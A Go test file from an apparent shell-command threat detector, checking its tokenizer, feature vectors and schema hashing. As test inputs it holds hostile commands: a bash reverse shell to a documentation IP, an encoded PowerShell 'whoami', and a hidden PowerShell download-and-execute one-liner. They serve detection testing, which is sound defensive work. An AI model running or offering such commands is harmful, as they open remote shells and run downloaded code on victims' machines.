package features

import (
	"strings"
	"testing"

	"github.com/vigilsec/vigil/internal/command"
	"github.com/vigilsec/vigil/internal/command/rules"
	"github.com/vigilsec/vigil/internal/deobfuscate"
	"github.com/vigilsec/vigil/internal/ml/vec"
)

func analyze(t testing.TB, line string) *command.Analysis {
	t.Helper()
	eng, err := rules.Load(true)
	if err != nil {
		t.Fatal(err)
	}
	a, err := command.NewAnalyzer(eng, deobfuscate.DefaultLimits()).Analyze(line)
	if err != nil {
		t.Fatal(err)
	}
	return a
}

func TestTokens(t *testing.T) {
	tests := []struct {
		line string
		want []string
		not  []string
	}{
		{"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
			[]string{"act_force_malicious", "pfirst_bash", "pexe_bash", "pflag_bash__i", "pshell_sh"}, []string{"deob_changed"}},
		{"powershell -enc dwBoAG8AYQBtAGkA",
			[]string{"deob_changed", "rfirst_powershell", "pfirst_whoami"}, nil},
		{"ls -la | grep foo",
			[]string{"ppipe_pipe", "pexe_grep", "psegments_2"}, []string{"act_force_malicious"}},
	}
	for _, tt := range tests {
		t.Run(tt.line, func(t *testing.T) {
			got := " " + string(AppendTokens(nil, analyze(t, tt.line))) + " "
			for _, w := range tt.want {
				if !strings.Contains(got, " "+w+" ") {
					t.Errorf("token %q missing from %q", w, got)
				}
			}
			for _, w := range tt.not {
				if strings.Contains(got, " "+w+" ") {
					t.Errorf("token %q should not be in %q", w, got)
				}
			}
			for _, c := range strings.TrimSpace(got) {
				if !(c == ' ' || c == '_' || c >= 'a' && c <= 'z' || c >= '0' && c <= '9') {
					t.Fatalf("character %q outside the token alphabet in %q", c, got)
				}
			}
		})
	}
}

func TestVector(t *testing.T) {
	s := NewSchema("test", 12, 8)
	f, err := NewFeaturizer(s)
	if err != nil {
		t.Fatal(err)
	}
	a := analyze(t, "powershell -enc dwBoAG8AYQBtAGkA")
	x := f.Vector(a, Both, vec.Sparse{})
	if !x.Valid(s.Dim()) || x.Len() == 0 {
		t.Fatalf("invalid vector: %d entries", x.Len())
	}
	tokens := 0
	for _, j := range x.Index {
		if int(j) >= s.Text.Dim() {
			tokens++
		}
	}
	if tokens == 0 {
		t.Error("no token features")
	}
	again := f.Vector(a, Both, vec.Sparse{})
	if x.DotSparse(again) < 1.999 {
		t.Error("vectorising twice gives different vectors")
	}
	raw, dec := f.Vector(a, Raw, vec.Sparse{}), f.Vector(a, Decoded, vec.Sparse{})
	if raw.DotSparse(dec) > 1.9 {
		t.Error("raw and decoded views should differ for an encoded command")
	}
	if !strings.Contains(Text(a, Both), "whoami") || strings.Contains(Text(a, Raw), "whoami") {
		t.Errorf("views: both=%q raw=%q", Text(a, Both), Text(a, Raw))
	}
}

func TestSchemaHash(t *testing.T) {
	a, b := NewSchema("x", 16, 12), NewSchema("x", 17, 12)
	if a.Hash() == b.Hash() || a.Hash() != NewSchema("x", 16, 12).Hash() {
		t.Error("schema hash must change with the layout and only with it")
	}
	if err := NewSchema("x", 40, 12).Validate(); err == nil {
		t.Error("40 hash bits accepted")
	}
}

func BenchmarkVector(b *testing.B) {
	f, _ := NewFeaturizer(NewSchema("bench", 18, 12))
	a := analyze(b, `powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a')"`)
	var x vec.Sparse
	b.ReportAllocs()
	for b.Loop() {
		x = f.Vector(a, Both, x)
	}
}
